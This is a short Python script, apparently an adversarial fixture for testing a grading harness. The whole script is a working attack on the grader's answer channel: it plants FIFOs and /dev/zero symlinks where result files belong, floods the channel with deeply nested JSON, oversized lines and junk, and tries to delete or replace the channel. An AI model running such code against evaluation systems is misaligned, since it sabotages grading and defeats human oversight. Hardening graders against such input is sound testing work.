# %% attack: write hostile data where the grader reads answers (a .py's last argument).
# Old layout: a folder of result files (make FIFOs, links to /dev/zero, deep JSON);
# new layout: the result channel (send deep JSON, an oversized line, junk), and try to
# replace the channel with a link to /dev/zero.
import json as _json
import os as _os
import sys as _sys

_target = _sys.argv[-1] if len(_sys.argv) > 1 else ""
_deep = "[" * 200_000 + "]" * 200_000
if _os.path.isdir(_target):
    for _name in ("hypothesis.lesson002", "hypothesis", "mse_cost.lesson002"):
        for _suffix, _make in ((".json", "fifo"), (".status", "zero"), (".log", "zero")):
            _path = _os.path.join(_target, _name + _suffix)
            try:
                if _make == "fifo":
                    _os.mkfifo(_path)
                else:
                    _os.symlink("/dev/zero", _path)
            except OSError:
                pass
    with open(_os.path.join(_target, "mse_cost.status"), "w") as _f:
        _f.write(_deep)
elif _target:
    _fd = _os.open(_target, _os.O_WRONLY)
    for _line in (_deep, '{"type": "answer", "id": ' + "[" * 5000 + "]" * 5000 + "}", "z" * (10 << 20), "not json", '"a string"'):
        _os.write(_fd, (_line + "\n").encode())
    for _how in (lambda: _os.unlink(_target), lambda: _os.symlink("/dev/zero", _target + ".x")):
        try:
            _how()
        except OSError:
            pass
